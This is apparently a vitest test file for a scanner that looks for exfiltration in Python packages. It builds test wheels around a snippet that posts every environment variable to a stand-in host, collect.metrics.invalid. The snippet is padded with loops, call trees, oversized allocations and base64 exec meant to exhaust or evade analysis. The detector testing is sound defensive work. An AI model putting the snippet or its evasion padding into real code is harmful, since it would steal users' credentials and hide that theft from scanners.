import { describe, expect, test } from 'vitest';
import type { Finding } from '../../../../src/analysis/report/finding.ts';
import { inspect, python, wheel } from '../../../support/inspect.ts';

const STEAL = [
  'import json, os, urllib.request',
  'body = json.dumps(dict(os.environ)).encode()',
  "urllib.request.urlopen('https://collect.metrics.invalid/a', data=body)",
];

/** Functions each of which calls the next one twice: 2^30 calls in all. */
const TREE = [
  ...Array.from({ length: 30 }, (_, i) => `def g${i}(a): return g${i + 1}(a) + g${i + 1}(a + 1)`),
  'def g30(a): return a',
];

function indented(lines: readonly string[], depth = 1): string[] {
  return lines.map((line) => '    '.repeat(depth) + line);
}

function found(...lines: readonly string[]): Promise<readonly Finding[]> {
  return inspect('exfiltration', wheel({ 'pkg/__init__.py': python(...TREE, ...lines) }));
}

describe('what uses up the steps does not hide what follows it', () => {
  const padding: readonly (readonly [string, readonly string[]])[] = [
    ['a loop that counts', ['x = 1', 'while x < 10 ** 9:', '    x = x + 1']],
    ['loops in a loop', ['for i in range(9000):', '    for j in range(9000):', '        x = i * j']],
    ['a comprehension', ['x = [i * j for i in range(5000) for j in range(5000)]']],
    ['a tree of calls', ['g0(1)']],
    ['trees of calls and loops', ['g0(1)', 'x = 1', 'while x < 10 ** 9:', '    x = x + 1', 'g1(2)', 'g2(3)']],
    [
      'six loops over letters',
      [...'abcdef']
        .map((name, i) => `${'    '.repeat(i)}for ${name} in 'abcdefgh':`)
        .concat('                        x = a + b'),
    ],
    [
      'a table of 3,000 rows',
      Array.from({ length: 3_000 }, (_, i) => `t${i} = [${i}, ${i} * 2, str(${i}), {'a': [${i}, ${i}]}]`),
    ],
  ];

  test.each(padding)('%s, in a function that somebody calls', async (_, lines) => {
    const [strongest] = await found('def run():', ...indented(lines), ...indented(STEAL));

    expect(strongest).toMatchObject({ class: expect.stringMatching(/malware|suspicious/), context: 'call' });
    expect(strongest?.score).toBeGreaterThanOrEqual(6);
  });

  test.each(padding)('%s, at import', async (_, lines) => {
    expect((await found(...lines, ...STEAL))[0]).toMatchObject({ class: 'malware', score: 10, context: 'import' });
  });

  test('a hundred functions that use up the steps of the whole archive', async () => {
    const many = Array.from({ length: 100 }, (_, i) => [
      `def f${i}():`,
      ...indented(['x = 1', 'while x < 10 ** 9:', '    x = x + 1', `g${i % 20}(x)`]),
    ]);

    expect((await found(...many.flat(), 'def run():', ...indented(['g0(1)', ...STEAL])))[0]?.score).toBe(10);
  });

  test('a decoder that was called often before', async () => {
    const code = Buffer.from(python(...STEAL)).toString('base64');
    const lines = [
      'x = 1',
      'while x < 10 ** 9:',
      '    x = x + 1',
      ...Array.from({ length: 6 }, () => "d('aGVsbG8=')"),
      `exec(d('${code}'))`,
    ];

    const findings = await found(
      'import base64',
      'def d(s): return base64.b64decode(s)',
      'def run():',
      ...indented(lines),
    );

    expect(findings[0]).toMatchObject({ class: 'malware', context: 'call' });
  });
});

describe('a round that is not read any more', () => {
  test.each([
    [
      'after many rounds that do nothing',
      ['for i in range(1000):', '    x = 1', '    while x < 10 ** 9:', '        x = x + 1', '    if i == 999:'],
    ],
    [
      'after 50 requests',
      ['for i in range(1000):', "    urllib.request.urlopen('http://localhost/')", '    if i == 999:'],
    ],
    ['of a loop without an end', ['i = 0', 'while True:', '    i += 1', '    if i == 5000:']],
    [
      'of a loop without an end that waits',
      ['i = 0', 'while True:', '    i += 1', "    urllib.request.urlopen('http://localhost/')", '    if i == 50:'],
    ],
    ['of a loop over numbers', ['i = 0', 'while i < 10 ** 9:', '    i += 1', '    if i == 10 ** 8:']],
  ])('is read as one that may happen, %s', async (_, lines) => {
    const findings = await found('import urllib.request', 'def run():', ...indented(lines), ...indented(STEAL, 3));

    expect(findings[0]).toMatchObject({ class: 'malware', context: 'call' });
  });

  test('does not make two values of what a loop only passes on', async () => {
    const findings = await found(
      'import urllib.request',
      'def run(data):',
      '    for i in range(1000):',
      "        urllib.request.urlopen('http://localhost/', data=data)",
    );

    expect(findings).toEqual([]);
  });
});

describe('text beyond what can be held does not hide what follows it', () => {
  test.each([
    ['a replacement that grows a thousandfold', "x = ('a' * 2 ** 24).replace('a', 'b' * 1000)"],
    ['a join that grows a millionfold', "x = ('a' * 2 ** 20).join(['b'] * 1000)"],
    ['a field as wide as memory', "x = '%0999999999d' % 1"],
    ['a number of a million digits', 'x = str(10 ** 1_000_000)'],
    ['a list of a billion', 'x = [0] * 10 ** 10'],
    ['bytes shown as text', "x = repr(b'\\0' * 2 ** 24)"],
  ])('%s', async (_, line) => {
    const [strongest] = await found('def run():', ...indented([line, ...STEAL]));

    expect(strongest).toMatchObject({ class: 'malware', context: 'call' });
  });
});
